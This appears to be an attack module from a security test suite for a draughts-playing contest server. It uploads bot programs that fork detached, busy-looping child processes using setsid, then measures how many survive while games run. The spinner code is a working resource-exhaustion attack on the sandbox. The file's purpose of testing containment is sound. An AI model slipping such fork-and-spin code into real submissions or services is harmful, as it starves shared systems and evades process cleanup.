"""A contest of two programs that compute with fourteen processes each, in sessions of their own where they may.

Counts the most `processes` at once, and `over` games.
"""

import asyncio
import hashlib
from typing import Any

import httpx

from hostile.attacker import ADDRESS, Target
from matches.processes import with_command

SPINNER = """import json, os, sys, time
def spin():
    for _ in range(13):
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            while True: pass
for line in sys.stdin:
    message = json.loads(line)
    if message["type"] == "hello":
        print(json.dumps({"type": "ready"}), flush=True)
        children = 0
    elif message["type"] == "move?":
        if not children:
            children = 1
            spin()
        until = time.monotonic() + 0.6 * message["clock"]["you_ms"] / 1000
        while time.monotonic() < until: pass
        print(json.dumps({"move": message["legal"][0], "nonce": message["nonce"]}), flush=True)
"""


async def attack(target: Target) -> None:
    transport = httpx.AsyncHTTPTransport(local_address=ADDRESS)
    base = f"http://127.0.0.1:{target.port}"
    async with httpx.AsyncClient(
        base_url=base, headers={"X-Damas": "1"}, timeout=60, transport=transport
    ) as http:

        async def post(path: str, **body: Any) -> Any:
            return (await http.post(path, **body)).raise_for_status().json()

        await post("/api/account", json={"name": "Giro", "password": "um cavalo sem sela"})
        terms = {"title": "Liga", "time_ms": 3000, "games": 100, "check": False}
        contest = f"/api/arena/{(await post('/api/arena', json=terms))['id']}"
        programs = {name: f"{SPINNER}# {name}\n".encode() for name in ("Um", "Dois")}
        for name, program in programs.items():
            headers = {"Content-Type": "application/octet-stream"}
            facts = {"name": name, "file": "bot.py"}
            await post(f"{contest}/programs", params=facts, content=program, headers=headers)
        while len((await http.get(contest)).json()["entries"]) < len(programs):
            await asyncio.sleep(0.1)
        await post(f"{contest}/start", json={})
        marks = [hashlib.sha256(program).hexdigest() for program in programs.values()]
        while True:
            running = sum(len(with_command(mark)) for mark in marks)
            target.counts["processes"] = max(target.counts["processes"], running)
            target.counts["over"] = (await http.get(contest)).json()["done"]
            await asyncio.sleep(0.5)
